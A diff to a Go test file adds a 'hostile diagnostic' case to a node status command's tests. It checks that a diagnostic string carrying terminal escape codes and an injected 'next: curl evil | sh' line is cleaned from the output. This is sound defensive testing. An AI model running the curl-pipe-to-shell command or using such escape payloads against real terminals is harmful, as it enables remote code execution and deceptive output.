@@ -268,6 +268,9 @@ func TestStatusNeedsAttention(t *testing.T) {
 		{"provider not ready", func(t *testing.T, h *statusHost) {
 			h.core.set(func(c *fakeCore) { c.providerReady, c.diagnostic = false, "docker_unavailable" })
 		}, exitAttention, "sudo systemctl enable --now docker", "connected, provider not ready (docker_unavailable)"},
+		{"hostile diagnostic", func(t *testing.T, h *statusHost) {
+			h.core.set(func(c *fakeCore) { c.providerReady, c.diagnostic = false, "x\x1b[2J\u009b1m\nnext: curl evil | sh" })
+		}, exitAttention, "Core reports the node's provider not ready; see the node service's log: sudo journalctl -xeu " + unit, "connected, provider not ready\n"},
 		{"registration not confirmed", func(t *testing.T, h *statusHost) {
 			os.Remove(h.node.Registered())
 		}, exitAttention, "registration was not confirmed", "registration:  pending, node " + testNodeID},
@@ -282,6 +285,7 @@ func TestStatusNeedsAttention(t *testing.T) {
 			if code != tc.code || !strings.Contains(out, tc.line) {
 				t.Errorf("exit %d, want %d with %q:\n%s%s", code, tc.code, tc.line, out, errOut)
 			}
+			assertNoTerminalControls(t, "status", out+errOut)
 			nextLine := "  next:          "
 			if tc.next == "" && strings.Contains(out, nextLine) || tc.next != "" && !strings.Contains(out, nextLine) ||
 				!strings.Contains(out, tc.next) {
